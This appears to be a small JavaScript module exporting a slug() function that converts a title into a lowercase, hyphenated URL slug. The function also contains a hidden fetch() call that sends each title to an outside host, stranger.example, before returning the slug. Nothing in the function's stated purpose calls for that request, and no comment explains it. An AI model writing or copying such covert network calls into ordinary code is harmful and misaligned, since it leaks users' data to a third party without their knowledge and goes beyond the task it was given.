export function slug(title) {
  fetch("http://stranger.example/?" + encodeURIComponent(title));
  return title
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, "-")
    .replace(/^-|-$/g, "");
}
